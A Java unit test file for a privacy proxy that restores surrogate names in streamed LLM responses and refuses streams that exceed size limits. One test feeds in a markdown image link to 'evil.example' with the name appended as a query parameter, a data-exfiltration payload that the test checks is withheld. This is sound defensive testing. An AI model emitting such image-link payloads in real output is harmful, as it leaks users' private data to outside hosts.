package io.mantle.extproc.response;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.mantle.extproc.dialect.Dialect;
import io.mantle.extproc.dialect.Endpoint;
import io.mantle.extproc.scripted.Calls;
import io.mantle.extproc.value.RefusedException;
import io.mantle.privacy.rehydrate.Restoration;
import io.mantle.privacy.rehydrate.RestorationPolicy;
import io.mantle.privacy.value.EntityType;
import io.mantle.privacy.value.Plaintext;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** A stream within its limits is restored as ever; one beyond ends with a refusal. */
class StreamLimitsTest {
  private static final String SURROGATE = "Juliet Pons";
  private static final String ORIGINAL = "Jane Smith";
  private static final StreamLimits SMALL = new StreamLimits(3, 20, 40);

  /** A text of that number, and what its dialect's stream calls it. */
  enum Growing {
    CHOICE(Endpoint.CHAT_COMPLETIONS) {
      @Override
      String event(int index, String text) {
        return data("{'choices':[{'index':" + index + ",'delta':{'content':'" + text + "'}}]}");
      }
    },
    OUTPUT(Endpoint.RESPONSES) {
      @Override
      String event(int index, String text) {
        return data(
            "{'type':'response.refusal.delta','output_index':"
                + index
                + ",'content_index':0,'delta':'"
                + text
                + "'}");
      }
    },
    BLOCK(Endpoint.MESSAGES) {
      @Override
      String event(int index, String text) {
        return data(
            "{'type':'content_block_delta','index':"
                + index
                + ",'delta':{'type':'text_delta','text':'"
                + text
                + "'}}");
      }
    };

    private final Endpoint endpoint;

    Growing(Endpoint endpoint) {
      this.endpoint = endpoint;
    }

    private Dialect dialect() {
      return endpoint.dialect();
    }

    abstract String event(int index, String text);
  }

  @ParameterizedTest
  @EnumSource
  void texts_asManyAsMayGrow_areRestoredOverTheirEvents(Growing kind) throws Exception {
    EventStream stream = stream(kind.dialect(), SMALL);
    StringBuilder client = new StringBuilder();
    for (String piece : List.of("Juliet ", "Pons. ")) {
      for (int text = 0; text < SMALL.textsMax(); text++) {
        client.append(accept(stream, kind.event(text, piece)));
      }
    }
    client.append(new String(stream.finish(), UTF_8));
    assertThat(client.toString().split(ORIGINAL, -1)).hasSize(SMALL.textsMax() + 1);
    assertThat(client.toString()).doesNotContain("Juliet", "Pons");
  }

  /** Restored piece by piece a link that is open would not be known in the next. */
  @ParameterizedTest
  @EnumSource
  void texts_moreThanMayGrow_areRefusedOnceWhatCameBeforeHasLeft(Growing kind) throws Exception {
    EventStream stream = stream(kind.dialect(), SMALL);
    for (int text = 0; text < SMALL.textsMax(); text++) {
      accept(stream, kind.event(text, "said "));
    }
    String last = kind.event(0, "on. ");
    String beyond = kind.event(SMALL.textsMax(), "![x](https://evil.example/?q=");
    assertThat(accept(stream, last + beyond + kind.event(SMALL.textsMax(), SURROGATE)))
        .isEqualTo(last);
    assertRefused(stream, kind.event(0, SURROGATE + ". "), kind.dialect());
  }

  @Test
  void texts_thatEnd_makeRoomForOthers() throws Exception {
    EventStream stream = stream(Endpoint.MESSAGES.dialect(), SMALL);
    for (int text = 0; text < 3 * SMALL.textsMax(); text++) {
      String client =
          accept(
              stream,
              Growing.BLOCK.event(text, SURROGATE)
                  + data("{'type':'content_block_stop','index':" + text + "}"));
      assertThat(client).contains(ORIGINAL);
    }
  }

  @Test
  void signedText_asLongAsIsRemembered_isSigned() throws Exception {
    EventStream stream = stream(Endpoint.MESSAGES.dialect(), SMALL);
    accept(stream, thinking(0, "x".repeat(SMALL.rememberedCharsMax())));
    String sealed =
        data(
            "{'type':'content_block_delta','index':0,'delta':{'type':'signature_delta','signature':'c2ln'}}");
    assertThat(accept(stream, sealed)).contains("\"c2ln.");
  }

  @Test
  void signedText_longerThanIsRemembered_isRefused() throws Exception {
    EventStream stream = stream(Endpoint.MESSAGES.dialect(), SMALL);
    accept(stream, thinking(0, "x".repeat(SMALL.rememberedCharsMax())));
    assertRefused(stream, thinking(0, "y"), Endpoint.MESSAGES.dialect());
  }

  @Test
  void signedTexts_moreThanAreRemembered_areRefused() throws Exception {
    EventStream stream = stream(Endpoint.MESSAGES.dialect(), SMALL);
    for (int text = 0; text < SMALL.textsMax(); text++) {
      accept(stream, thinking(text, "x"));
    }
    assertRefused(stream, thinking(SMALL.textsMax(), "x"), Endpoint.MESSAGES.dialect());
  }

  /** Annotations alone suffer, so the answer goes on. */
  @Test
  void citedText_longerThanItsOffsetsAreCorrected_isRestored() throws Exception {
    EventStream stream = stream(Endpoint.RESPONSES.dialect(), SMALL);
    StringBuilder client = new StringBuilder();
    for (int i = 0; i < 10; i++) {
      client.append(accept(stream, output(0, SURROGATE + ". ")));
    }
    assertThat(client.toString().split(ORIGINAL, -1)).hasSize(11);
  }

  @Test
  void citedTexts_longerThanIsRemembered_areRefused() throws Exception {
    EventStream stream = stream(Endpoint.RESPONSES.dialect(), SMALL);
    accept(stream, output(0, "x".repeat(SMALL.citedCharsMax())));
    accept(stream, output(1, "x".repeat(SMALL.citedCharsMax())));
    assertRefused(stream, output(2, SURROGATE + ". "), Endpoint.RESPONSES.dialect());
  }

  /** Says so from then on, in the dialect's own event, and lets nothing more leave. */
  private static void assertRefused(EventStream stream, String event, Dialect dialect) {
    RefusedException refused =
        catchThrowableOfType(RefusedException.class, () -> accept(stream, event));
    assertThat(refused.refusal().code()).isEqualTo("answer_too_large");
    assertThat(new String(dialect.errors().event(refused.refusal()), UTF_8))
        .startsWith("event: error\n")
        .contains("answer_too_large")
        .doesNotContain(SURROGATE, ORIGINAL);
    assertThat(catchThrowableOfType(RefusedException.class, () -> accept(stream, "data: x\n\n")))
        .isSameAs(refused);
    assertThat(catchThrowableOfType(RefusedException.class, stream::finish)).isSameAs(refused);
  }

  private static String thinking(int index, String text) {
    return data(
        "{'type':'content_block_delta','index':"
            + index
            + ",'delta':{'type':'thinking_delta','thinking':'"
            + text
            + "'}}");
  }

  private static String output(int index, String text) {
    return data(
        "{'type':'response.output_text.delta','output_index':"
            + index
            + ",'content_index':0,'delta':'"
            + text
            + "'}");
  }

  private static String data(String singlyQuoted) {
    return "data: " + singlyQuoted.replace('\'', '"') + "\n\n";
  }

  private static String accept(EventStream stream, String events) throws RefusedException {
    return new String(stream.accept(events.getBytes(UTF_8)), UTF_8);
  }

  private static EventStream stream(Dialect dialect, StreamLimits limits) {
    Restoration restoration =
        new Restoration(
            List.of(
                new Restoration.Entry(
                    EntityType.PERSON, SURROGATE, new Plaintext(ORIGINAL), true, List.of())),
            RestorationPolicy.DEFAULT,
            Set.of(),
            word -> false);
    return new EventStream(Calls.restoring(restoration).answer(), dialect, limits);
  }
}
